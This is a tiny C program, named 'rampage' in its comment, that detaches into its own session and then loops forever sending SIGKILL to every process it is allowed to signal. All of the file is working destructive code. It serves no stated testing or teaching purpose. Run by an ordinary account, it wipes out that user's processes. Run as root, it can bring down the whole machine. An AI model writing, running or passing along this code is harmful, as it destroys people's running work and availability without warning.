/* rampage leaves its session and kills every other process of its account without pause. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    pid_t pid = fork();
    if (pid < 0) {
        return 1;
    }
    if (pid > 0) {
        return 0;
    }
    setsid();
    for (;;) {
        kill(-1, SIGKILL);
    }
}
